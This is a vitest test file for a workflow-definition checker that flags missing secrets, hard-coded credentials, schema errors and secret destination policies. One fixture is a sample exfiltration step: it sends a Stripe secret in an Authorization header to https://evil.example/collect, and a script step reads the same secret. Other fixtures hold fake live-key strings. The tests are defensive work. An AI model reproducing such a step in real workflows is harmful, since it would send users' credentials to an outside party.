import { findHardCodedCredentials } from "@workflow-secrets/secret-rules";
import { PLANTED, PLANTED_DEFINITION, PLANTED_FINDINGS } from "@workflow-secrets/secret-rules/testing";
import { describe, expect, it } from "vitest";
import { checkDefinitionText, EXAMPLE_DEFINITION } from "./definition-check";

const lines = (...rows: string[]) => rows.join("\n");

describe("checkDefinitionText", () => {
  it("accepts the example once its secret exists", () => {
    expect(checkDefinitionText(EXAMPLE_DEFINITION, new Set(["slack_alerts"]))).toMatchObject({ issues: [] });
    expect(checkDefinitionText(EXAMPLE_DEFINITION, new Set(["slack_alerts"])).definition?.name).toBe(
      "Notify Slack",
    );
  });

  it("flags, at its line and in the runner's words, a literal destination the secret's policy refuses", () => {
    const text = JSON.stringify(
      {
        name: "Charge",
        trigger: { type: "manual" },
        steps: [
          {
            id: "charge",
            type: "http",
            url: "https://evil.example/collect",
            headers: { Authorization: "Bearer {{secrets.stripe_secret}}" },
          },
          { id: "peek", type: "script", code: "return secrets.stripe_secret.length" },
        ],
      },
      null,
      2,
    );
    const policies = new Map([
      ["stripe_secret", { destinations: ["https://api.stripe.com"], scripts: false }],
    ]);
    const lineOf = (needle: string) => text.split("\n").findIndex((l) => l.includes(needle)) + 1;
    expect(checkDefinitionText(text, policies).issues).toEqual([
      {
        severity: "error",
        line: lineOf('"Authorization"'),
        message:
          'step "charge" (headers.Authorization): secret "stripe_secret" may not be sent to https://evil.example; it may go only to https://api.stripe.com. Send it to one of those, or enter the secret\'s value again with this destination added',
      },
      {
        severity: "error",
        line: lineOf('"code"'),
        message:
          'step "peek" (code): secret "stripe_secret" may not be read by script steps. Remove it from the script, or enter the secret\'s value again with scripts allowed',
      },
    ]);
    // Unrestricted (legacy or "*"), the same definition passes.
    const open = new Map([["stripe_secret", { destinations: ["*"], scripts: true }]]);
    expect(checkDefinitionText(text, open).issues).toEqual([]);
  });

  it("points missing secrets at their line, with what to do", () => {
    const check = checkDefinitionText(EXAMPLE_DEFINITION, new Set());
    expect(check.definition).toBeDefined();
    expect(check.issues).toEqual([
      {
        severity: "error",
        line: 8,
        message: expect.stringMatching(/no secret named "slack_alerts".*Save it/),
      },
    ]);
  });

  it("warns about hard-coded credentials at the line, never quoting them", () => {
    const key = `sk_live_${"Z9".repeat(12)}`;
    const text = lines(
      "{",
      '  "name": "Charge",',
      '  "trigger": { "type": "manual" },',
      '  "steps": [{ "id": "charge", "type": "http", "method": "POST", "url": "https://api.stripe.com/v1/charges",',
      `    "headers": { "Authorization": "Bearer ${key}" } }]`,
      "}",
    );
    const check = checkDefinitionText(text, new Set());
    expect(check.issues).toHaveLength(1);
    expect(check.issues[0]).toMatchObject({ severity: "warning", line: 5 });
    expect(check.issues[0]?.message).toContain("{{secrets.stripe_secret}}");
    expect(check.issues[0]?.message).not.toContain(key);
  });

  it("finds exactly what the API warns about, with the same package function, each at its line", () => {
    // The API's test (workflows.security.test.ts) saves this same definition and expects the same findings.
    const text = JSON.stringify(PLANTED_DEFINITION, null, 2);
    const check = checkDefinitionText(text, new Set());
    expect(check.definition).toBeDefined();
    expect(check.credentials).toEqual(findHardCodedCredentials(PLANTED_DEFINITION.steps));
    expect(check.credentials.map(({ path, stepId, shape }) => ({ path, stepId, kind: shape.kind }))).toEqual(
      PLANTED_FINDINGS,
    );
    const rows = text.split("\n");
    const warnings = check.issues.filter((issue) => issue.severity === "warning");
    expect(warnings).toHaveLength(PLANTED_FINDINGS.length);
    for (const [i, value] of [
      PLANTED.stripe,
      PLANTED.aws,
      PLANTED.slackHook,
      PLANTED.github,
      PLANTED.slackBot,
    ].entries()) {
      const line = warnings[i]?.line ?? 0;
      expect(rows[line - 1], `warning ${i}`).toContain(value);
      expect(warnings[i]?.message).not.toContain(value);
    }
    expect(warnings[3]?.message).toContain("write secrets.github_token here");
  });

  it("still warns about a credential while the JSON is unfinished", () => {
    const key = `sk_live_${"Z9".repeat(12)}`;
    const text = lines(
      "{",
      '  "steps": [{ "id": "a", "type": "http",',
      `    "url": "https://x.test/?k=${key}",`,
      '    "method": ',
    );
    const check = checkDefinitionText(text, new Set());
    expect(check.issues).toEqual([
      expect.objectContaining({
        severity: "warning",
        line: 3,
        message: expect.stringContaining("Stripe secret key"),
      }),
      expect.objectContaining({
        severity: "error",
        line: 4,
        message: expect.stringMatching(/^Not valid JSON: expected a value/),
      }),
    ]);
  });

  it("does not warn about credential-shaped text outside the steps, as the API does not", () => {
    const text = EXAMPLE_DEFINITION.replace("Notify Slack", `Notify ${PLANTED.slackBot}`);
    expect(checkDefinitionText(text, new Set(["slack_alerts"])).issues).toEqual([]);
  });

  it("maps schema errors to the line of the offending value", () => {
    const text = lines(
      "{",
      '  "name": "Bad",',
      '  "trigger": { "type": "manual" },',
      '  "steps": [',
      '    { "id": "a", "type": "http", "url": "https://x" },',
      '    { "id": "b", "type": "http", "url": "https://x", "method": "FETCH" }',
      "  ]",
      "}",
    );
    const check = checkDefinitionText(text, new Set());
    expect(check.definition).toBeUndefined();
    expect(check.issues).toEqual([
      expect.objectContaining({
        severity: "error",
        line: 6,
        message: expect.stringContaining("steps.1.method"),
      }),
    ]);
  });

  it("reports JSON syntax errors with a line", () => {
    const check = checkDefinitionText(lines("{", '  "name": "x",', '  "trigger": }'), new Set());
    expect(check.issues[0]).toMatchObject({ severity: "error", line: 3 });
    expect(check.issues[0]?.message).toMatch(/^Not valid JSON/);
  });

  it("does not treat an escaped \\{{ as a reference", () => {
    const text = EXAMPLE_DEFINITION.replace("Hello from Workflow Secrets", "literal \\\\{{secrets.nope}}");
    expect(checkDefinitionText(text, new Set(["slack_alerts"])).issues).toEqual([]);
  });
});
